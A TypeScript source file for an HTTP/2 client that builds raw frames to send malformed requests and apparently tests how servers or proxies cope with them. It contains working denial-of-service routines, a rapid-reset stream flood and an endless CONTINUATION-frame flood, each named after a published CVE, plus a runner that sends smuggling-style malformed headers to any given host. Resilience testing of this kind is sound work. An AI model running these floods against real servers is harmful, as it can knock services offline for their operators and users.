/**
 * A raw HTTP/2 client for hostile requests: it writes frames itself (HPACK literals without
 * indexing), so it can send what a well-behaved library refuses to (connection-specific
 * headers, a content-length the body contradicts, upper-case names, rapid resets, endless
 * CONTINUATION). Reports per case what came back on stream 1 and on the connection.
 *
 *   node hostile-h2.js HOST PORT CASES_JSON     (cases: [{i, headers: [[n,v]...], data: [b64...], endStream}])
 *   node hostile-h2.js HOST PORT --rapid-reset N
 *   node hostile-h2.js HOST PORT --continuation-flood SECONDS
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { frame, PREFACE, readFrames, T } from './h2-frames';

const say = (o: object) => process.stdout.write(JSON.stringify(o) + '\n');

export function hpackInt(value: number, prefixBits: number, first: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([first | value]);
  const out = [first | max];
  value -= max;
  while (value >= 128) {
    out.push((value % 128) + 128);
    value = Math.floor(value / 128);
  }
  out.push(value);
  return Buffer.from(out);
}

/** Literal header field without indexing, new name (RFC 7541 §6.2.2), no Huffman. */
export function hpackLiteral(name: string, value: string): Buffer {
  const n = Buffer.from(name, 'latin1');
  const v = Buffer.from(value, 'latin1');
  return Buffer.concat([Buffer.from([0x00]), hpackInt(n.length, 7, 0), n, hpackInt(v.length, 7, 0), v]);
}

const END_STREAM = 0x1;
const END_HEADERS = 0x4;
/** Static table indices of :status values (RFC 7541 Appendix A). */
const STATUS_INDEX: Record<number, number> = { 8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500 };

interface Seen {
  status?: number | 'other';
  rst?: number;
  goaway?: number;
  dataBytes: number;
  closed: boolean;
  error?: string;
}

/** Reads frames off the socket, recording what concerns stream 1 and the connection. */
function watch(s: Socket, seen: Seen, onFrame?: (type: number, flags: number, stream: number) => void): void {
  readFrames(s, (type, flags, stream, p) => {
    if (type === T.SETTINGS && !(flags & 1)) s.write(frame(T.SETTINGS, 1, 0, Buffer.alloc(0)));
    if (type === T.PING && !(flags & 1)) s.write(frame(T.PING, 1, 0, p));
    if (stream === 1 && type === T.HEADERS && seen.status === undefined) {
      const padded = flags & 0x8 ? 1 : 0;
      const prio = flags & 0x20 ? 5 : 0;
      const first = p[padded + prio]!;
      seen.status = first & 0x80 ? (STATUS_INDEX[first & 0x7f] ?? 'other') : 'other';
    }
    if (stream === 1 && type === T.DATA) seen.dataBytes += p.length;
    if (stream === 1 && type === T.RST_STREAM) seen.rst = p.readUInt32BE(0);
    if (type === T.GOAWAY) seen.goaway = p.readUInt32BE(4);
    onFrame?.(type, flags, stream);
  });
  s.on('error', (e) => (seen.error = (e as NodeJS.ErrnoException).code ?? e.message));
}

interface H2Case {
  i: number;
  headers: [string, string][];
  data: string[];
  endStream: boolean;
}

function runCase(host: string, port: number, c: H2Case): Promise<void> {
  return new Promise((resolve) => {
    const seen: Seen = { dataBytes: 0, closed: false };
    const s = connect({ host, port });
    let settled = false;
    const finish = () => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      say({ event: 'h2-case', i: c.i, ...seen });
      s.destroy();
      resolve();
    };
    const timer = setTimeout(finish, 4000);
    watch(s, seen, (type, flags, stream) => {
      if (stream === 1 && (type === T.RST_STREAM || ((type === T.DATA || type === T.HEADERS) && flags & END_STREAM))) setTimeout(finish, 50);
      if (type === T.GOAWAY) setTimeout(finish, 50);
    });
    s.on('close', () => {
      seen.closed = true;
      finish();
    });
    s.on('connect', () => {
      const block = Buffer.concat(c.headers.map(([n, v]) => hpackLiteral(n, v)));
      const frames = [PREFACE, frame(T.SETTINGS, 0, 0, Buffer.alloc(0))];
      const noData = c.data.length === 0;
      frames.push(frame(T.HEADERS, END_HEADERS | (noData && c.endStream ? END_STREAM : 0), 1, block));
      c.data.forEach((d, k) => frames.push(frame(T.DATA, k === c.data.length - 1 && c.endStream ? END_STREAM : 0, 1, Buffer.from(d, 'base64'))));
      s.write(Buffer.concat(frames));
    });
  });
}

/** Opens and immediately resets `n` streams (CVE-2023-44487), then one real request on a new stream. */
function rapidReset(host: string, port: number, n: number, authority: string): Promise<void> {
  return new Promise((resolve) => {
    const seen: Seen = { dataBytes: 0, closed: false };
    const s = connect({ host, port });
    const t0 = Date.now();
    let sent = 0;
    watch(s, seen);
    s.on('connect', () => {
      s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0, Buffer.alloc(0))]));
      const block = Buffer.concat([hpackLiteral(':method', 'GET'), hpackLiteral(':scheme', 'http'), hpackLiteral(':path', '/rapid'), hpackLiteral(':authority', authority)]);
      const rst = Buffer.alloc(4);
      rst.writeUInt32BE(8); // CANCEL
      const batch = (): void => {
        const out: Buffer[] = [];
        for (let k = 0; k < 200 && sent < n; k++, sent++) {
          const id = 3 + sent * 2;
          out.push(frame(T.HEADERS, END_HEADERS | END_STREAM, id, block), frame(T.RST_STREAM, 0, id, rst));
        }
        if (s.destroyed) return done();
        s.write(Buffer.concat(out), () => (sent < n ? setImmediate(batch) : done()));
      };
      batch();
    });
    let finished = false;
    // A peer that stops reading without closing would hold the writes forever: give up after 20 s.
    let stalled = false;
    const guard = setTimeout(() => {
      stalled = true;
      done();
    }, 20_000);
    const done = () => {
      if (finished) return;
      finished = true;
      clearTimeout(guard);
      setTimeout(() => {
        say({ event: 'rapid-reset', sent, ms: Date.now() - t0, goaway: seen.goaway, closed: seen.closed || s.destroyed, stalled, error: seen.error });
        s.destroy();
        resolve();
      }, 500);
    };
    s.on('close', () => {
      seen.closed = true;
      done();
    });
  });
}

/** HEADERS without END_HEADERS, then CONTINUATION frames forever (CVE-2024-27316 class). */
function continuationFlood(host: string, port: number, seconds: number, authority: string): Promise<void> {
  return new Promise((resolve) => {
    const seen: Seen = { dataBytes: 0, closed: false };
    const s = connect({ host, port });
    let bytes = 0;
    const t0 = Date.now();
    watch(s, seen);
    let reported = false;
    const finish = () => {
      if (reported) return;
      reported = true;
      say({ event: 'continuation-flood', bytes, ms: Date.now() - t0, goaway: seen.goaway, closed: seen.closed || s.destroyed, error: seen.error });
      s.destroy();
      resolve();
    };
    s.on('close', () => (seen.closed = true));
    s.on('connect', () => {
      const head = Buffer.concat([hpackLiteral(':method', 'GET'), hpackLiteral(':scheme', 'http'), hpackLiteral(':path', '/flood'), hpackLiteral(':authority', authority)]);
      s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0, Buffer.alloc(0)), frame(T.HEADERS, 0, 1, head)]));
      const chunk = frame(T.CONTINUATION, 0, 1, Buffer.concat(Array.from({ length: 100 }, (_, k) => hpackLiteral(`x-flood-${k}`, 'y'.repeat(100)))));
      // A peer that stops reading without closing: the drain never comes; the deadline still ends it.
      const stop = setTimeout(() => finish(), seconds * 1000 + 5000);
      let finished = false;
      const end = () => {
        if (finished) return;
        finished = true;
        clearTimeout(stop);
        finish();
      };
      const pump = (): void => {
        if (s.destroyed || seen.closed || Date.now() - t0 > seconds * 1000) return end();
        bytes += chunk.length;
        if (s.write(chunk)) setImmediate(pump);
        else s.once('drain', pump);
      };
      pump();
    });
  });
}

async function main(): Promise<void> {
  const [host, portText, mode, arg, authority] = process.argv.slice(2);
  const port = Number(portText);
  if (mode === '--rapid-reset') return rapidReset(host!, port, Number(arg), authority ?? `${host}:${port}`);
  if (mode === '--continuation-flood') return continuationFlood(host!, port, Number(arg), authority ?? `${host}:${port}`);
  const cases = JSON.parse(readFileSync(mode!, 'utf8')) as H2Case[];
  let next = 0;
  await Promise.all(Array.from({ length: 8 }, async () => {
    while (next < cases.length) await runCase(host!, port, cases[next++]!);
  }));
  say({ event: 'done', n: cases.length });
}
if (require.main === module) void main();
